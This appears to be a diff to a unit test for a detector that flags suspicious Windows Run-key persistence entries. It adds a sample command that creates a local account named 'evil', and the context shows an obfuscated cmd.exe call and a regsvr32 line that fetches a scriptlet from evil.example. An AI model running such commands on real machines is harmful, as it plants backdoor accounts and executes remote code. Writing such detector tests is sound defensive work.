@@ -140,6 +140,7 @@ TEST(RunKeys, ReportsWhatIsSuspicious) {
        "obfuscated_command", Severity::medium},
       {"x", "cmd.exe /c C:\\Users\\Public\\%NONE:~-10,0%e.exe", "obfuscated_command",
        Severity::low},
+      {"x", "cmd.exe /c net user evil P@ss1 /add", "account_added", Severity::medium},
       {"x", "regsvr32.exe /s /n /u /i:http://evil.example/x.sct scrobj.dll", "remote_target",
        Severity::medium},
   };
